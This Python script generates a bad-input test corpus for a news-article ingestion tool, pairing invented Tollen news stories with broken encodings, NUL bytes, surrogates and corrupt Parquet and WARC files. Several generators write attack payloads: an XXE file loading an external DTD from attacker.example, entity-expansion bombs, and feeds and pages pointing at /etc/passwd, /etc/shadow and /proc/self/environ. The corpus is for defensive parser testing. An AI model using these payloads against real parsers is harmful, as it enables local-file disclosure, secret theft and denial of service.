"""Build the small bad-input corpus of this folder (run from any directory; deterministic).

Each file is one kind of bad input, mixed with good rows wherever its format
can hold several articles, so a test can check both the error and that the
good rows of the same run were kept. ``README.md`` beside this script lists
every file and what it tests; ``tests/test_bad_input.py`` runs each one
through every command and the HTTP API, ``bench/bad_input.py`` measures them.

Not generated here: ``truncated.warc.gz`` (``../make_warc.py`` writes it) and
the 100 MB single line, written at test time so no copy is ever committed.
Files written by hand before this script (``bomb.xml``, ``xxe.xml``,
``cp1252.csv``, ``malformed.jsonl``, ``missing_column.csv``, ``ragged.csv``)
are left as they are.
"""

from __future__ import annotations

import csv
import io
import json
import random
from pathlib import Path

HERE = Path(__file__).parent
DATA = HERE.parent

#: Good articles the bad files carry (invented news; no two tell the same story).
GOOD = {
    "quay": ("Quay wall repairs finish early at Tollen harbour",
             "Repairs to the eastern quay wall of Tollen harbour finished two weeks ahead of schedule on Tuesday, "
             "the port company said. Divers replaced 40 metres of cracked concrete facing and the berth reopened to "
             "fishing boats the same afternoon."),
    "choir": ("Tollen youth choir wins regional contest",
              "The Tollen youth choir won the regional choir contest in Marsby on Saturday with a programme of folk "
              "songs arranged by its conductor, Hedda Lund. The 28 singers, aged 11 to 17, will represent the region "
              "at the national finals in October."),
    "tram": ("Night trams return to the Velden line",
             "Night trams will run again on the Velden line from Friday, ending a two-year pause caused by a shortage "
             "of drivers. Trams will leave the central station every 30 minutes between midnight and 5 a.m. on "
             "Fridays and Saturdays."),
    "orchard": ("Cider makers expect a smaller harvest after late frost",
                "Cider makers in the Velden valley expect to press about a fifth fewer apples this autumn after a late "
                "frost in April killed blossom in the higher orchards. Prices for pressing apples have already risen "
                "by ten percent at the cooperative in Lindholm."),
    "ferry": ("Skerra ferry gets a second boat for the summer",
              "The Skerra ferry will run with two boats from June to August, the county said on Wednesday, after "
              "queues of up to three hours last summer. The second boat, leased from a Danish operator, takes 60 cars "
              "and will double the number of crossings."),
    "museum": ("Maritime museum reopens its lighthouse gallery",
               "The Tollen maritime museum reopened its lighthouse gallery on Sunday after a year of restoration. "
               "The gallery's centrepiece, a nineteenth-century Fresnel lens from the Skerra light, has been cleaned "
               "and fitted with a new lamp that visitors can switch on."),
}


def good(key: str, **extra) -> dict:
    """A good article record: id, title, text, date, source."""
    title, text = GOOD[key]
    return {"id": f"good-{key}", "title": title, "text": text, "date": "2024-06-03", "source": "Tollen Post", **extra}


def jline(record) -> bytes:
    return json.dumps(record, ensure_ascii=False).encode("utf-8") + b"\n"


def csv_bytes(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode(encoding)


def page(title: str, body: str, head: str = "") -> str:
    return (f"<!DOCTYPE html>\n<html><head>{head}<title>{title}</title></head>\n"
            f"<body><article><h1>{title}</h1>\n{body}\n</article></body></html>\n")


def paragraphs(text: str) -> str:
    return "\n".join(f"<p>{s.strip()}.</p>" for s in text.split(". ") if s.strip())


# --- the files ---------------------------------------------------------------------------------


def empty() -> bytes:
    return b""


def random_bin() -> bytes:
    return random.Random(20240603).randbytes(4096)


def png_named_txt() -> bytes:
    # A PNG signature and header chunk, then noise: an image saved under a text name.
    return bytes.fromhex("89504e470d0a1a0a0000000d49484452000000400000004008060000") + random.Random(7).randbytes(2000)


def nul_bytes_txt() -> bytes:
    # A scraped article with one stray NUL (a known scraper bug): text, not binary.
    title, text = GOOD["quay"]
    return f"{title}\n\n{text[:120]}".encode() + b"\x00" + f"{text[120:]}\n".encode()


def nul_bytes_jsonl() -> bytes:
    raw_nul = jline(good("tram", id="bad-raw-nul")).replace(b"Night trams will", b"Night\x00trams will")
    escaped = good("orchard", id="good-orchard-escaped-nul")
    escaped["text"] = escaped["text"].replace("frost in April", "frost\u0000 in April")
    return jline(good("choir")) + raw_nul + jline(escaped) + jline(good("ferry"))


def nul_bytes_csv() -> bytes:
    rows = [["id", "title", "text", "date"]]
    for key in ("choir", "tram", "ferry"):
        r = good(key)
        rows.append([r["id"], r["title"], r["text"], r["date"]])
    rows[2][2] = rows[2][2].replace("Night trams will", "Night \x00trams will")
    return csv_bytes(rows)


def mixed_encoding_txt() -> bytes:
    # UTF-8 article with one paragraph pasted in from a cp1252 source.
    utf8 = "Caf\u00e9 owners on Tollen\u2019s quay say the new \u201cquiet hours\u201d rule has cut late-night noise complaints by half since May."
    cp1252 = "\u201cWe close the terrace at eleven now,\u201d said Ren\u00e9e Brenner, who runs the Caf\u00e9 M\u00f6we. \u201cNobody has complained.\u201d"
    tail = "The council will decide in September whether to keep the rule \u2014 and whether to extend it to the marina."
    return ("Quiet hours cut noise complaints on Tollen quay\n\n" + utf8 + "\n\n").encode() + cp1252.encode("cp1252") + ("\n\n" + tail + "\n").encode()


def mixed_encoding_jsonl() -> bytes:
    cp = good("museum", id="good-museum-cp1252")
    cp["text"] = cp["text"].replace("nineteenth-century", "nineteenth\u2011century").replace("The gallery's", "The gallery\u2019s")
    cp["text"] += " \u201cIt shines again,\u201d said curator Ren\u00e9e Brenner."
    line_cp1252 = json.dumps(cp, ensure_ascii=False).replace("\u2011", "-").encode("cp1252") + b"\n"
    return jline(good("quay", text=GOOD["quay"][1] + " \u201cAhead of time,\u201d the port said.")) + line_cp1252 + jline(good("ferry"))


def mixed_encoding_csv() -> bytes:
    rows = [["id", "title", "text", "date"]]
    for key in ("choir", "museum"):
        r = good(key)
        rows.append([r["id"], r["title"], r["text"] + " \u201cWonderful,\u201d said Ren\u00e9e.", r["date"]])
    head = csv_bytes(rows[:2])
    cp_row = csv_bytes(rows[2:], encoding="cp1252")
    return head + cp_row


def lying_charset_html() -> bytes:
    # Declares UTF-8, is cp1252 (smart quotes and accents are invalid UTF-8).
    title = "Caf\u00e9 on the quay wins \u201cbest terrace\u201d prize"
    body = paragraphs("The Caf\u00e9 M\u00f6we on Tollen quay has won the region\u2019s \u201cbest terrace\u201d prize for the second year. "
                      "Owner Ren\u00e9e Brenner said the prize money would pay for new awnings before the summer season. "
                      "The jury praised the view of the harbour and the caf\u00e9\u2019s fish soup")
    return page(title, body, '<meta charset="utf-8">').encode("cp1252")


def lying_latin1_html() -> bytes:
    # Declares ISO-8859-1, is UTF-8.
    title = "Stra\u00dfenbahn f\u00e4hrt wieder nachts nach Velden"
    body = paragraphs("Die Stra\u00dfenbahn nach Velden f\u00e4hrt ab Freitag wieder nachts, teilte der Verkehrsverbund am Montag mit. "
                      "Die Z\u00fcge fahren freitags und samstags zwischen Mitternacht und f\u00fcnf Uhr alle drei\u00dfig Minuten. "
                      "\u201eWir haben endlich genug Fahrerinnen und Fahrer\u201c, sagte ein Sprecher")
    return page(title, body, '<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">').encode("utf-8")


def bogus_charset_html() -> bytes:
    # Declares UTF-16 (impossible for bytes that spell out a meta tag in ASCII) and an unknown charset.
    # An even length, so that decoding it as UTF-16 would "succeed" (as CJK garbage).
    title, text = GOOD["ferry"]
    data = page(title, paragraphs(text), '<meta charset="utf-16"><meta charset="x-no-such-charset">').encode("utf-8")
    return data + b"\n" * (len(data) % 2)


def surrogates_jsonl() -> bytes:
    lines = [jline(good("choir"))]
    # Lone and reversed surrogate escapes: valid JSON, not encodable as UTF-8.
    lone = json.dumps(good("tram", id="good-tram-lone-surrogate")).replace("Night trams", "Night \\ud800trams")
    lone = lone.replace('"source": "Tollen Post"', '"source": "Tollen \\udfff Post", "label\\ud800": "x\\udc80\\ud800y"')
    lines.append(lone.encode() + b"\n")
    # Surrogate escapes in the id: the id is changed, so the record is still unique.
    lines.append(json.dumps(good("museum", id="museum-\ud800")).encode() + b"\n")
    # A valid pair (an emoji) is fine.
    lines.append(json.dumps(good("ferry", title=GOOD["ferry"][0] + " \U0001F6A2")).encode() + b"\n")
    # Invalid UTF-8 bytes: a stray continuation byte, an overlong slash, an encoded surrogate (CESU-8), 0xFF.
    raw = jline(good("orchard", id="good-orchard-invalid-utf8"))
    lines.append(raw.replace(b"cooperative", b"co\x80op\xc0\xafera\xed\xa0\x80tive\xff"))
    # A surrogate escape that is not hex, and one cut off at the end of the line: malformed JSON.
    lines.append(b'{"id": "bad-escape", "text": "bad \\udXYZ escape"}\n')
    lines.append(b'{"id": "bad-cut", "text": "cut off \\ud8')
    return b"".join(lines) + b"\n" + jline(good("quay"))


def malformed_json() -> bytes:
    # A whole JSON document broken after its first record: one error for the document.
    return (b'[\n' + json.dumps(good("quay")).encode() + b",\n" + json.dumps(good("choir")).encode()[:-20] + b"\n]\n")


def _parquet(keys: list[str], row_group_size: int | None = None) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    recs = [good(k) for k in keys]
    table = pa.table({c: pa.array([r[c] for r in recs], pa.string()) for c in ("id", "title", "text", "date", "source")})
    out = io.BytesIO()
    pq.write_table(table, out, row_group_size=row_group_size, compression="NONE")
    return out.getvalue()


def truncated_parquet() -> bytes:
    data = _parquet(["quay", "choir", "tram"])
    return data[: len(data) // 2]  # magic at the start, no footer


def garbage_parquet() -> bytes:
    # Parquet magic at both ends, a footer length pointing nowhere and noise between.
    return b"PAR1" + random.Random(11).randbytes(3000) + (9999).to_bytes(4, "little") + b"PAR1"


def corrupt_rowgroup_parquet() -> bytes:
    """Three row groups of one row; the third's text column (page headers and data) overwritten with
    noise, the footer intact: the first two rows read, then the error."""
    import pyarrow.parquet as pq

    data = bytearray(_parquet(["quay", "choir", "ferry"], row_group_size=1))
    col = pq.ParquetFile(io.BytesIO(bytes(data))).metadata.row_group(2).column(2)
    assert col.path_in_schema == "text"
    start = col.dictionary_page_offset if col.has_dictionary_page else col.data_page_offset
    noise = random.Random(3)
    for i in range(start, start + col.total_compressed_size):
        data[i] = noise.randrange(256)
    return bytes(data)


def nested_html() -> bytes:
    # 10,000 nested elements, the story before and after them.
    title, text = GOOD["museum"]
    deep = "".join(f"<b>{i} " if i % 1000 == 0 else "<b>" for i in range(10_000)) + "bottom"
    return page(title, paragraphs(text) + "\n<div>" + deep + "</div>\n<p>The gallery is open daily from ten to five.</p>").encode()


def quadratic_xml() -> bytes:
    # Quadratic blowup: one 20 KB entity referenced 1,000 times (20 MB once expanded), no nesting.
    refs = "&big;" * 1000
    return (f'<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY big "{"x" * 20_000}">\n]>\n'
            f'<rss version="2.0"><channel><title>Blowup</title><item><title>Boom</title><description>{refs}</description></item>'
            f"</channel></rss>\n").encode()


def xxe_dtd_xml() -> bytes:
    # External DTD and an external parameter entity: the out-of-band XXE variants.
    return (b'<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "file:///etc/passwd" [\n'
            b'<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">\n%remote;\n]>\n'
            b'<rss version="2.0"><channel><title>XXE</title><item><title>t</title><description>d</description></item></channel></rss>\n')


def bomb_html() -> bytes:
    # Billion laughs and an external entity in an HTML page's doctype: HTML parsers must not expand them.
    title, text = GOOD["orchard"]
    lol = "".join(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">\n' for i in range(1, 10))
    doctype = f'<!DOCTYPE html [\n<!ENTITY lol0 "lol">\n{lol}<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
    html = page(title, paragraphs(text) + "\n<p>&lol9; &xxe;</p>")
    return (doctype + html.split("\n", 1)[1]).encode()


def corrupt_warc_gz() -> bytes:
    """``../pages.warc.gz`` with bytes flipped inside record 5's gzip member: records 1-4 read, then the error."""
    data = bytearray((DATA / "pages.warc.gz").read_bytes())
    members = [i for i in range(len(data)) if data.startswith(b"\x1f\x8b\x08", i)]
    start, end = members[4], members[5]
    for i in range((start + end) // 2, (start + end) // 2 + 16):
        data[i] ^= 0x5A
    return bytes(data)


def local_links_rss() -> bytes:
    # Links, enclosures, sources, comments, images and a stylesheet pointing at local files: never to be read.
    title, text = GOOD["ferry"]
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:media="http://search.yahoo.com/mrss/"
     xml:base="file:///etc/">
<channel>
<title>Tollen Post</title>
<link>file:///etc/passwd</link>
<image><url>file:///etc/shadow</url><title>logo</title><link>file:///etc/</link></image>
<item>
<title>{title}</title>
<link>file:///etc/passwd</link>
<guid isPermaLink="true">file:///etc/hostname</guid>
<comments>file:///proc/self/environ</comments>
<source url="file:///etc/passwd">passwd</source>
<enclosure url="file:///etc/passwd" length="1234" type="text/html"/>
<media:content url="file:///etc/passwd" type="text/html"/>
<description>{text}</description>
<content:encoded><![CDATA[<p>{text}</p><p><img src="file:///etc/passwd"><iframe src="file:///etc/passwd"></iframe>
<a href="passwd">relative link</a></p>]]></content:encoded>
<pubDate>Mon, 03 Jun 2024 08:00:00 GMT</pubDate>
</item>
<item>
<title>Only a link to a local file</title>
<link>file:///etc/passwd</link>
<enclosure url="file:///etc/passwd" length="1" type="text/plain"/>
</item>
</channel>
</rss>
""".encode()


def local_links_atom() -> bytes:
    # Atom out-of-line content (content src=...) and enclosure links to local files.
    title, text = GOOD["choir"]
    return f"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="file:///etc/">
<title>Tollen Post</title>
<id>urn:tollen</id>
<updated>2024-06-03T08:00:00Z</updated>
<link rel="self" href="file:///etc/passwd"/>
<entry>
<title>Local file as content</title>
<id>urn:tollen:1</id>
<updated>2024-06-03T08:00:00Z</updated>
<content type="text/html" src="file:///etc/passwd"/>
<link rel="enclosure" href="file:///etc/passwd"/>
</entry>
<entry>
<title>{title}</title>
<id>urn:tollen:2</id>
<updated>2024-06-03T08:00:00Z</updated>
<link rel="alternate" href="passwd"/>
<link rel="enclosure" type="text/html" href="file:///etc/passwd"/>
<content type="html">&lt;p&gt;{text}&lt;/p&gt;&lt;img src="file:///etc/passwd"&gt;</content>
</entry>
</feed>
""".encode()


def local_refs_html() -> bytes:
    # A page whose links, frames, canonical url, base and refresh point at local files.
    title, text = GOOD["tram"]
    head = ('<base href="file:///etc/"><link rel="canonical" href="file:///etc/passwd">'
            '<meta http-equiv="refresh" content="0;url=file:///etc/passwd"><link rel="stylesheet" href="file:///etc/passwd">'
            '<script src="file:///etc/passwd"></script>')
    body = (paragraphs(text) + '\n<iframe src="file:///etc/passwd"></iframe><object data="file:///etc/passwd"></object>'
            '<img src="passwd"><embed src="/etc/passwd"><a href="file:///etc/passwd">more</a>')
    return page(title, body, head).encode()


def pairs_bad_jsonl() -> bytes:
    """Pair rows for score-pairs: good pairs around malformed, surrogate, NUL and incomplete rows."""
    def pair(pid, a, b, **extra):
        return {"pair_id": pid, "title1": GOOD[a][0], "text1": GOOD[a][1], "title2": GOOD[b][0], "text2": GOOD[b][1], **extra}

    lines = [jline(pair("p1", "quay", "museum"))]
    lines.append(b'{"pair_id": "p2", "title1": "broken" "text1": "x"}\n')
    lines.append(json.dumps(pair("p3", "tram", "choir", text1="Night \ud800trams")).encode() + b"\n")
    lines.append(jline(pair("p4", "ferry", "orchard")).replace(b"Skerra", b"Sk\x00erra", 1))
    lines.append(jline({"pair_id": "p5", "title1": "only one side", "text1": "no second article"}))
    lines.append(jline(pair("p6", "orchard", "ferry")).replace(b"cooperative", b"co\xffoperative"))
    return b"".join(lines)


FILES = {
    "empty.txt": empty,
    "random.bin": random_bin,
    "png_named.txt": png_named_txt,
    "nul_bytes.txt": nul_bytes_txt,
    "nul_bytes.jsonl": nul_bytes_jsonl,
    "nul_bytes.csv": nul_bytes_csv,
    "mixed_encoding.txt": mixed_encoding_txt,
    "mixed_encoding.jsonl": mixed_encoding_jsonl,
    "mixed_encoding.csv": mixed_encoding_csv,
    "lying_charset.html": lying_charset_html,
    "lying_latin1.html": lying_latin1_html,
    "bogus_charset.html": bogus_charset_html,
    "surrogates.jsonl": surrogates_jsonl,
    "malformed.json": malformed_json,
    "truncated.parquet": truncated_parquet,
    "garbage.parquet": garbage_parquet,
    "corrupt_rowgroup.parquet": corrupt_rowgroup_parquet,
    "nested.html": nested_html,
    "quadratic.xml": quadratic_xml,
    "xxe_dtd.xml": xxe_dtd_xml,
    "bomb.html": bomb_html,
    "corrupt.warc.gz": corrupt_warc_gz,
    "local_links.rss": local_links_rss,
    "local_links.atom": local_links_atom,
    "local_refs.html": local_refs_html,
    "pairs_bad.jsonl": pairs_bad_jsonl,
}


def main() -> None:
    for name, make in FILES.items():
        data = make()
        assert len(data) < 64 * 1024, (name, len(data))
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
